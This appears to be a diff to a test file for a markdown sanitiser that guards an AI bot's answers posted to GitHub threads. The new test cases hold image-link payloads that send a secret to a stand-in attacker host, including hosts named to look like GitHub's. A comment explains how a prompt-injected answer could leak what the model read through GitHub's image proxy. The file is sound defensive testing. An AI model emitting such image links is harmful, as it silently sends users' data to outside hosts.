@@ -137,15 +137,40 @@ describe("toSafeMarkdown", () => {
     expect(checkSafeMarkdown(out, options)).toEqual([]);
   });
 
-  it("keeps https links and images, and makes other bare URLs code", () => {
-    expect(safe("[docs](https://docs.example/a b) and ![logo](https://img.example/l.png)")).toBe(
-      "\\[docs\\](<https://docs.example/a> b) and ![logo](<https://img.example/l.png>)",
+  it("keeps https links and GitHub's images, and makes other bare URLs code", () => {
+    const attachment = "https://github.com/user-attachments/assets/0b1c";
+    expect(safe(`[docs](https://docs.example/a b) and ![logo](${attachment})`)).toBe(
+      `\\[docs\\](<https://docs.example/a> b) and ![logo](<${attachment}>)`,
+    );
+    expect(safe("![shot](https://private-user-images.githubusercontent.com/1/s.png?jwt=x)")).toBe(
+      "![shot](<https://private-user-images.githubusercontent.com/1/s.png?jwt=x>)",
     );
     expect(safe("[docs](https://docs.example/x)")).toBe("[docs](<https://docs.example/x>)");
     expect(safe("https://ok.example/p http://plain.example www.bare.example")).toBe(
       "<https://ok.example/p> `http://plain.example` `www.bare.example`",
     );
     expect(safe("![pixel](http://track.example/p.gif)")).toBe("pixel");
+  });
+
+  it.each([
+    ["an image", "![status](https://attacker.example/p.png?d=SECRET)"],
+    ["an image in a link", "[![x](https://attacker.example/a.png?d=SECRET)](https://ok.example)"],
+    ["a reference-style image", "![y][r]\n\n[r]: https://attacker.example/b.png?d=SECRET"],
+    ["a host named like GitHub's", "![z](https://github.com.attacker.example/c.png?d=SECRET)"],
+    [
+      "a host ending like GitHub's",
+      "![z](https://githubusercontent.com.attacker.example/d.png?d=SECRET)",
+    ],
+  ])("shows no image from a host other than GitHub's: %s", (_, input) => {
+    // GitHub's proxy fetches an image, address and all, as soon as anyone views the thread: a
+    // prompt-injected answer's image sent what the model read to any host, with no click.
+    const out = safe(input);
+    expect(out).not.toContain("SECRET");
+    expect(parser.render(out)).not.toContain("<img");
+    expect(checkSafeMarkdown(out, options)).toEqual([]);
+    expect(checkSafeMarkdown(input, options)).toContainEqual(
+      expect.stringMatching(/^image from a host other than GitHub's: /),
+    );
   });
 
   it("links only the issues Talos retrieved, in this repository", () => {
